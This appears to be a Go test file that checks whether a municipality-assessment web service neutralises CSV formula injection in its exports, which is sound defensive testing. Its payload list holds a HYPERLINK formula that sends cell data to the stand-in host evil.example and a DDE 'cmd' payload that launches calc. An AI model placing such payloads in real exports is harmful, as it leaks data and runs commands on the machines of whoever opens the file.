package server_test

import (
	"bytes"
	"context"
	"encoding/csv"
	"slices"
	"strings"
	"testing"

	"github.com/inclusiekaart/inclusiekaart/internal/assessment"
	"github.com/inclusiekaart/inclusiekaart/internal/atlas"
	"github.com/inclusiekaart/inclusiekaart/internal/scoring"
)

// formulaPayloads start with each character a spreadsheet runs as a formula.
var formulaPayloads = []string{`=HYPERLINK("http://evil.example/?"&A1,"klik")`, "+31 20 1234", "-2+3+cmd|' /C calc'!A0", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"}

// TestCSVFormulaInjectionIsNeutralised plants formula payloads in the free
// text of an assessment (source, assessor, note) and in a municipality name:
// no cell of /api/assessments.csv or of the municipality CSV starts with a
// formula character, numbers (also negative ones) stay numbers, and the
// exported file imports again (the import refuses formula starts; the
// neutralised text, with its apostrophe, is accepted).
func TestCSVFormulaInjectionIsNeutralised(t *testing.T) {
	ts, st, _ := editServer(t, false)
	// The API refuses such text; the store takes it as it comes (an older
	// record, a direct import), which is what the outputs must survive.
	var planted []assessment.Assessment
	for i, p := range formulaPayloads {
		code := []string{"GM0344", "GM0363", "GM0014", "GM0034", "GM0153", "GM0599"}[i]
		planted = append(planted, assessment.Assessment{Code: code, AssessedOn: "2025-10-01", Source: p, Assessor: p,
			Values: map[string]assessment.Value{"stage": {Value: 4, Note: p}}})
	}
	if _, err := st.AddAssessments(context.Background(), planted, "planted"); err != nil {
		t.Fatal(err)
	}
	r := get(t, ts.URL+"/api/assessments.csv")
	rows, err := csv.NewReader(bytes.NewReader(r.body)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	neutralised := 0
	for _, row := range rows[1:] {
		for _, cell := range row {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Errorf("assessments.csv cell %q starts with a formula character", cell)
			}
			if strings.HasPrefix(cell, "'") && slices.Contains(formulaPayloads, cell[1:]) {
				neutralised++
			}
		}
	}
	if neutralised != 3*len(formulaPayloads) {
		t.Errorf("%d neutralised payloads, want %d:\n%s", neutralised, 3*len(formulaPayloads), r.body)
	}
	// Re-import (rows with tab or CR: the import refuses control characters anyway).
	var again bytes.Buffer
	cw := csv.NewWriter(&again)
	for _, row := range rows {
		if !strings.ContainsAny(strings.Join(row, ""), "\t\r") {
			cw.Write(row)
		}
	}
	cw.Flush()
	fw, _ := scoring.Default()
	as, err := assessment.ReadCSV(&again, fw, fixedNow())
	if err != nil {
		t.Fatal(err)
	}
	if len(as) != len(formulaPayloads)-2 {
		t.Errorf("re-read %d assessments, want %d", len(as), len(formulaPayloads)-2)
	}
	for _, a := range as {
		if !strings.HasPrefix(a.Source, "'") || !slices.Contains(formulaPayloads, a.Source[1:]) || a.Source != a.Assessor || a.Values["stage"].Note != a.Source {
			t.Errorf("%s: re-read source %q assessor %q note %q", a.Code, a.Source, a.Assessor, a.Values["stage"].Note)
		}
	}

	// The municipality CSV: a planted name, and a negative number that stays one.
	fields := append(slices.Clone(atlas.MunicipalityFields), atlas.Field{Name: "balance", Type: atlas.Integer,
		Value: func(atlas.Record) any { return -1 }})
	var buf bytes.Buffer
	m := &atlas.Municipality{Code: "GM0363", Name: formulaPayloads[0], ProvinceName: "@provincie", Year: 2025}
	if err := atlas.WriteCSV(&buf, fields, []atlas.Record{m}); err != nil {
		t.Fatal(err)
	}
	out, err := csv.NewReader(&buf).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	col := func(name string) string { return out[1][slices.Index(out[0], name)] }
	if col("name") != "'"+formulaPayloads[0] || col("province_name") != "'@provincie" || col("balance") != "-1" || col("code") != "GM0363" {
		t.Errorf("municipality CSV row %q", out[1])
	}
	// The served municipality CSV goes through the same writer.
	if r := get(t, ts.URL+"/api/municipalities.csv"); r.status != 200 || bytes.Contains(r.body, []byte("\n=")) {
		t.Errorf("municipalities.csv: %d", r.status)
	}
}
